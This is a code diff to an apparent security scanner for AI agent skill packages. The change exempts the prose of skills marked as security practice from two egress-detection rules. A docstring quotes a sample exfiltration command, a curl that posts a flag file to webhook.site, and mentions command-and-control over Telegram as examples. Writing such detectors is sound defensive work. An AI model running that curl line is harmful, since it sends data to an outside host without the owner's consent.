@@ -18,10 +18,10 @@ package sending anything: these rules read only code, agent-instruction and hidd
 from __future__ import annotations
 
 import re
-from collections.abc import Iterable, Mapping, Sequence
+from collections.abc import Callable, Iterable, Mapping, Sequence
 from dataclasses import dataclass
 
-from skillscan.model import Capability, Confidence, Evidence, Finding, InferredCapability, Package
+from skillscan.model import Capability, Channel, Confidence, Evidence, Finding, InferredCapability, Package
 from skillscan.policy_download import stated_text
 from skillscan.policy_roles import CONTEXT_ROLES
 from skillscan.purpose.domains import host_within
@@ -44,9 +44,18 @@ MAX_EVIDENCE = 16
 
 @dataclass(frozen=True)
 class EgressPolicy:
-    """`egress:` of the policy: messaging services by id, free-hosting suffix → its provider's words."""
+    """`egress:` of the policy: messaging services by id, free-hosting suffix → its provider's words; and
+    `practice(path)`: the stated-purpose word saying the skill the path belongs to is security practice
+    (policy_practice.security_practice), whose documents cite an attacker's sinks as their subject."""
     messaging: frozenset[str] = frozenset()
     providers: tuple[tuple[str, tuple[str, ...]], ...] = ()
+    practice: Callable[[str], str | None] = lambda path: None
+
+
+def _cited(e: Evidence, policy: EgressPolicy) -> bool:
+    """Text (not code) of a security-practice skill: a CTF guide's `curl https://webhook.site/… -d @flag`,
+    a malware-analysis note on C2 over Telegram — the practice's subject, judged by the other rules."""
+    return e.channel is not Channel.CODE and policy.practice(e.path) is not None
 
 
 @dataclass(frozen=True)
@@ -105,7 +114,7 @@ def data_to_sink(package: Package, inferred: Sequence[InferredCapability], findi
             continue
         flows: dict[tuple[str, int], str] | None = None
         for e in ic.evidence[:MAX_EVIDENCE]:
-            if not _acting(e, roles):
+            if not _acting(e, roles) or _cited(e, policy):
                 continue
             if sink.category == "free-hosting" and _provider_named(host, policy.providers, stated_text(package, e.path)):
                 break
@@ -134,7 +143,7 @@ def unnamed_messaging(inferred: Sequence[InferredCapability], roles: Mapping[tup
         owners = [s for s in table.for_host(host) if s.id in policy.messaging]
         if not owners or any(s.id in purpose.ids for s in owners) or owners[0].id in seen:
             continue
-        acting = [e for e in ic.evidence[:MAX_EVIDENCE] if _acting(e, roles)]
+        acting = [e for e in ic.evidence[:MAX_EVIDENCE] if _acting(e, roles) and not _cited(e, policy)]
         if not acting:
             continue
         seen.add(owners[0].id)
